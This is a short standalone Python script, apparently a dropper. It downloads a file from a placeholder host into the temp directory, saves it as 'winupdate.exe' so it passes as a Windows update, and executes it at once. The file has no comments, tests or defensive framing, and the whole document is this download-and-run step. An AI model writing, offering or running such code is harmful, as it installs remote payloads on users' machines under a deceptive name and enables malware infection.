import os, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "winupdate.exe")
urllib.request.urlretrieve("http://example.invalid/x", path)
os.startfile(path)
